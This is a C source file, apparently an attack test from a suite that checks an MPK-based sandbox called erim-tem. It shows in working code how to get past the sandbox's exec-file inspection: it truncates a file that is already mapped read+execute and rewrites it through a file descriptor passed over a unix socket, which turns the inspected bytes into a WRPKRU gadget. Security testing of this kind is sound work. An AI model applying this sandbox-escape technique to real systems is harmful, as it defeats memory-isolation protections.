/* SPDX-License-Identifier: MIT */
/* atk_exec_truncate.c: executable bytes that come back from their file.
 * A clean root-owned file is mapped read+execute (granted after
 * inspection) while an O_RDWR fd to it waits in a unix socket (SCM_RIGHTS,
 * seen by no scan).  Writing through that fd alone does not reach the
 * mapping when it holds private copies; truncating the file does: the
 * kernel unmaps even private copy-on-write pages of a truncated file
 * (unmap_mapping_range with even_cows), and the next fault reads the file
 * again, which by then holds a WRPKRU gadget.  Three ways in (the attack
 * succeeds if any works):
 *
 *   ftruncate:   mapped by untrusted code; ftruncate(fd, 0) + pwrite;
 *   O_TRUNC:     mapped by untrusted code; open(O_WRONLY|O_TRUNC) (the
 *                kernel truncates before any exit check can close the
 *                fd again) + pwrite through the fd from the socket;
 *   start-up:    mapped by start-up code, before registration; then as
 *                O_TRUNC.
 *
 * With a key, the gadget runs from untrusted code and reads the secret. */
#include <sys/stat.h>

#define ATK_STARTUP trunc_startup
#include "atk_common.h"
#include "atk_file_exec.h"

static const uint8_t clean[] = { 0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3 };   /* mov eax,42; ret */

static volatile uint8_t *startup_map;   /* mapped read+execute by start-up */
static int startup_sock[2] = { -1, -1 };
static char startup_path[80];

/* A clean file at PATH, mapped read+execute, an O_RDWR fd to it in SV[0]. */
static volatile uint8_t *map_clean(const char *path, int sv[2])
{
	int fd;
	void *x;

	if (atk_make_file(path, clean, sizeof clean) != 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || (fd = open(path, O_RDWR)) < 0)
		return NULL;
	if (atk_send_fd(sv[0], fd) != 0)
		return NULL;
	close(fd);
	if ((fd = open(path, O_RDONLY)) < 0)
		return NULL;
	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	close(fd);
	return x == MAP_FAILED ? NULL : x;
}

static void trunc_startup(void)
{
	snprintf(startup_path, sizeof startup_path, "/tmp/atk_exec_truncate.%d.s", (int)getpid());
	startup_map = map_clean(startup_path, startup_sock);
}

/* Truncate the file at PATH as MODE says, rewrite it with the gadget, and
 * look at X: 1 the gadget is executable there, 0 not, -1 set-up error. */
static int rewrite(const char *mode, const char *path, int sock, volatile uint8_t *x)
{
	int wfd = atk_recv_fd(sock), tfd, won;

	if (wfd < 0)
		return -1;
	if (((volatile uint8_t *)x)[0] != clean[0])
		return -1;   /* the clean bytes were not there to begin with */
	if (!strcmp(mode, "ftruncate")) {
		if (ftruncate(wfd, 0) != 0)
			atk_say("%s: ftruncate(fd, 0): %s", mode, strerror(errno));
		else
			atk_say("%s: ftruncate(fd, 0) accepted", mode);
	} else {
		tfd = open(path, O_WRONLY | O_TRUNC);
		atk_say("%s: open(O_WRONLY|O_TRUNC): %s", mode, tfd >= 0 ? "fd kept" : strerror(errno));
		if (tfd >= 0)
			close(tfd);
	}
	{
		uint8_t now[sizeof atk_gadget];

		if (pwrite(wfd, atk_gadget, sizeof atk_gadget, 0) != (ssize_t)sizeof atk_gadget)
			atk_say("%s: rewriting the file: %s", mode, strerror(errno));
		else if (pread(wfd, now, sizeof now, 0) == (ssize_t)sizeof now && !memcmp(now, atk_gadget, sizeof now))
			atk_say("%s: the file now holds WRPKRU (%s)", mode,
			        lseek(wfd, 0, SEEK_END) == (off_t)sizeof atk_gadget ? "truncated, then rewritten" : "rewritten, not truncated");
	}
	close(wfd);
	won = atk_gadget_won(mode, x);
	if (!won)
		atk_say("%s: the executable bytes are the inspected ones (0x%02x 0x%02x ...)", mode, x[0], x[1]);
	return won;
}

static int late_mode(const char *mode, int n)
{
	char path[80];
	int sv[2], r;
	volatile uint8_t *x;

	snprintf(path, sizeof path, "/tmp/atk_exec_truncate.%d.%d", (int)getpid(), n);
	if (!(x = map_clean(path, sv))) {
		atk_say("%s: the clean file was not granted read+execute: %s", mode, strerror(errno));
		unlink(path);
		return -1;
	}
	r = rewrite(mode, path, sv[1], x);
	/* the file stays until the end: a new file could reuse its inode
	 * number, which erim-tem keeps in its exec-file registry */
	munmap((void *)x, 4096);
	return r;
}

static enum atk_result atk_attack(void)
{
	int r[3], won = 0, i;

	if (geteuid() != 0) {
		atk_say("needs root: erim-tem grants executable file mappings of root-owned files only");
		unlink(startup_path);
		return ATK_NA;
	}
	if (!startup_map) {
		atk_say("start-up could not map the clean file read+execute");
		return ATK_ERROR;
	}
	r[0] = late_mode("ftruncate", 0);
	r[1] = late_mode("O_TRUNC", 1);
	r[2] = rewrite("start-up", startup_path, startup_sock[1], startup_map);
	unlink(startup_path);
	for (i = 0; i < 2; i++) {
		char path[80];

		snprintf(path, sizeof path, "/tmp/atk_exec_truncate.%d.%d", (int)getpid(), i);
		unlink(path);
	}
	for (i = 0; i < 3; i++) {
		if (r[i] < 0)
			return ATK_ERROR;
		won |= r[i];
		if (atk_expect == ATK_SUCCEEDED && !r[i])
			return ATK_ERROR;   /* the control run shows every way works */
	}
	return won ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_exec_truncate";
static int atk_needs_pku = 0;
